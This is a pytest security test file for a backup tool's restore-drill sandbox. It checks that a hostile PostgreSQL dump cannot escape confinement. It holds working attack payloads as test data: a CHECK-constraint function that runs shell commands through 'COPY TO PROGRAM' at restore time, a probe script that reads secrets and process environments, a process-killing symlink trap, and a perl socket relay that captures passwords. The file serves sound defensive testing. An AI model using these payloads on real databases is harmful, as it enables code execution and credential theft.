# SPDX-License-Identifier: GPL-3.0-or-later
"""What an app's login writes into its database runs in a drill's pod, and gets nothing out of it: no network, nothing
of the drill's, and no verdict that is better than the copy. No policy is enforced here."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from ansible_collections.fanout.backup.plugins.module_utils.platforms.kubernetes import pods
from tests.sandbox.cluster.access import Access, until
from tests.sandbox.cluster.places import folder as cluster_folder

from .columns import PASSWORD, Database, Owner

SOCKETS = "/run/fanout/scratch-server"
# Runs as whoever restores the row, and once: the restore itself takes several looks at it.
ATTACK = """
SET ROLE forgejo;
DROP TABLE IF EXISTS a_label; DROP FUNCTION IF EXISTS is_fine;
CREATE FUNCTION is_fine(t text) RETURNS boolean LANGUAGE plpgsql AS $f$ BEGIN
  IF current_setting('is_superuser') = 'on' AND session_user = 'fanout_drill' THEN
    EXECUTE 'COPY (SELECT 1) TO PROGRAM ' || quote_literal($c$mkdir /tmp/once && bash -c '{program}'$c$);
  END IF;
  RETURN true; EXCEPTION WHEN OTHERS THEN RETURN true; END $f$;
CREATE TABLE a_label (name text CHECK (is_fine(name)));
INSERT INTO a_label VALUES ('x');
"""
# Looks around, tells the test what it saw in a file, and holds the drill up until the test has read it.
SPY = r"""
exec > /tmp/seen 2>&1
echo "number $(id -u) $(id -g)"
grep -e CapEff -e NoNewPrivs -e Seccomp: /proc/self/status
for address in {addresses}; do (exec 3<>/dev/tcp/$address) && echo "reached $address"; done
for address in {addresses}; do (exec 3<>/dev/udp/$address) && echo "sent to $address"; done
perl -MSocket -e "socket(S, PF_INET, SOCK_STREAM, 0) and print qq(made a socket\n)"
perl -MSocket -e "socket(S, PF_INET6, SOCK_DGRAM, 0) and print qq(made a socket\n)"
unshare --user true && echo "made a namespace"
unshare --net true && echo "made a namespace"
echo "processes $(cat /proc/[0-9]*/comm | sort -u | tr "\n" " ")"
cat /etc/fanout/drill-identity.txt && echo "identity read"
cat /proc/1/environ | tr "\0" "\n"
ls /mnt/nas /etc/fanout /var/run/secrets && echo "files of the drill seen"
echo > /run/fanout/confine/confine && echo "confinement changed"
rm -f /run/fanout/confine/confine && echo "confinement removed"
echo x > /proc/1/mem && echo "first process changed"
touch /usr/bin/changed /etc/changed && echo "programs changed"
head -c 32000000 /dev/zero > {sockets}/filling; rm -f {sockets}/filling
echo over
for i in $(seq 600); do test -e /tmp/go && break; sleep 0.1; done
"""
# Puts everything that could be waited for or followed into the only folder that the drill reads, and ends the server
# and its first process, which is told to start again.
HOSTILE = r"""
cd {sockets}
rm -f start ended ready server.log
mkfifo server.log
ln -s /proc/self/fd/0 .start
ln -s /etc/fanout/drill-identity.txt ended
kill -TERM 1
kill -KILL -1
"""
# Takes the place of the server, asks for a password in clear, as a server may, and keeps what it is told. Holds the
# drill up as the spy does, so that the test sees it in its place.
RELAY = r"""
cd {sockets}
mv .s.PGSQL.5432 .s.real
setsid perl -MSocket -e '"'"'
  socket(L, PF_UNIX, SOCK_STREAM, 0); bind(L, sockaddr_un(".s.PGSQL.5432")); listen(L, 9);
  chmod 0777, ".s.PGSQL.5432";
  while (accept(C, L)) {{
    sysread(C, $startup, 9999);
    syswrite(C, "R" . pack("NN", 8, 3));
    open(T, ">>", "/tmp/told"); print T sysread(C, $told, 9999) ? "told: $told\n" : "told nothing\n"; close(T);
    close(C);
  }}
'"'"' >/dev/null 2>&1 </dev/null &
for i in $(seq 100); do test -e .s.PGSQL.5432 && break; sleep 0.1; done
ls -A > /tmp/seen
echo over >> /tmp/seen
for i in $(seq 600); do test -e /tmp/go && break; sleep 0.1; done
"""


@pytest.fixture(scope="module")
def database(access: Access) -> Iterator[Database]:
    with access.namespace() as name:
        yield Database(access, name)


@pytest.fixture
def owner(access: Access, database: Database) -> Iterator[Owner]:
    owner = Owner(access, database, cluster_folder() / "nas")
    try:
        owner.have_namespace()
        owner.bring_nas()
        owner.good("column")
        yield owner
    finally:
        owner.clean()


@pytest.fixture
def attacked(database: Database, owner: Owner) -> Callable[[str], None]:
    """Type what an ordinary login may type, which owns its database and is no superuser; then back up."""

    def typed(program: str) -> None:
        database.run(ATTACK.format(program=program))
        owner.good("column_backup")

    return typed


def server_pod(owner: Owner) -> str | None:
    """The pod of a drill that has got to where the program is done."""
    for pod in owner.access.core.list_namespaced_pod(owner.namespace).items:
        if pod.status.phase == "Running" and "drill" in pod.spec.containers[0].command:
            name: str = pod.metadata.name
            read = ("cat", "/tmp/seen")
            if "over" in owner.access.execute(owner.namespace, name, *read, container="server").output:
                return name
    return None


def drilled(owner: Owner) -> tuple[dict[str, Any], str]:
    """Return how a drill ended, and what its program had seen when it held the drill up."""
    access = owner.access
    with ThreadPoolExecutor(1) as pool:
        drill = pool.submit(owner.call, "column_drill")
        name = until("the program has looked around", lambda: drill.done() or server_pod(owner))
        assert isinstance(name, str), drill.result()
        said = access.execute(owner.namespace, name, "cat", "/tmp/seen", container="server").output
        access.execute(owner.namespace, name, "touch", "/tmp/go", container="server")
        return drill.result(), said


def verdict(ended: dict[str, Any]) -> dict[str, Any]:
    (thread,) = ended["threads"]
    found: dict[str, Any] = thread["result"]["verdict"]
    return found


def test_a_program_that_a_dump_starts_reaches_no_network_and_nothing_of_the_drill_s(
    owner: Owner, access: Access, attacked: Callable[[str], None], database: Database
) -> None:
    host, port = access.core.api_client.configuration.host.rpartition("/")[2].split(":")
    server = access.core.read_namespaced_pod("postgresql", database.namespace).status.pod_ip
    addresses = f"{host}/{port} {host}/53 {host}/10250 {server}/5432 127.0.0.1/80"
    attacked(SPY.format(addresses=addresses, sockets=SOCKETS))

    ended, said = drilled(owner)

    assert verdict(ended)["result"] == "pass", "the copy is what the source was"
    assert "number 10002 10002" in said
    assert "CapEff:\t0000000000000000" in said
    assert "NoNewPrivs:\t1" in said
    assert "Seccomp:\t2" in said
    assert said.count("Address family not supported") >= 10, said
    for won in (
        "reached", "sent to", "made a", "identity read", "drill seen", "confinement", "first process changed",
        "programs changed",
    ):  # fmt: skip
        assert won not in said.replace("/run/fanout/confine/confine", ""), said
    (processes,) = (line.split() for line in said.splitlines() if line.startswith("processes"))
    assert "fanout" not in processes
    assert "python" not in said
    assert PASSWORD not in said


def test_a_drill_neither_follows_nor_waits_for_what_a_server_leaves_in_the_folder_of_its_socket(
    owner: Owner, attacked: Callable[[str], None]
) -> None:
    attacked(HOSTILE.format(sockets=SOCKETS))

    ended = owner.call("column_drill")

    assert verdict(ended)["result"] == "inconclusive", ended
    assert "AGE-SECRET-KEY" not in ended["printed"]


def test_who_takes_the_place_of_the_server_is_never_asked_and_told_no_password(
    owner: Owner, attacked: Callable[[str], None]
) -> None:
    attacked(RELAY.format(sockets=SOCKETS))

    ended, said = drilled(owner)

    assert {".s.PGSQL.5432", ".s.real"} <= set(said.split()), "it stands in the server's place"
    # Any answer of its would have ended the drill without a result.
    assert verdict(ended)["result"] == "pass", ended


@pytest.mark.usefixtures("impatient")
def test_a_server_that_cannot_be_confined_does_not_start_and_its_drill_says_why(
    owner: Owner, monkeypatch: pytest.MonkeyPatch
) -> None:
    owner.good("column_backup")
    made = pods._server
    # As where the kernel takes no filter, it ends with 125 and its last words.
    monkeypatch.setattr(pods, "_server", lambda *given: (server := made(*given)) | {"command": server["command"][:1]})

    ended = owner.call("column_drill")

    assert ended["failed"]
    (thread,) = ended["threads"]
    assert "server" in thread["failure"]["problem"], thread
    assert "seccomp" in thread["failure"]["remedy"]


def test_an_image_of_ours_that_lacks_the_program_which_confines_is_named(owner: Owner) -> None:
    owner.good("column_backup")
    owner.variables["app_image"] = owner.access.cluster.images.postgresql

    ended = owner.call("column_drill")

    (thread,) = ended["threads"]
    assert "its container confine failed" in thread["failure"]["problem"]
    assert "app_image" in thread["failure"]["remedy"]
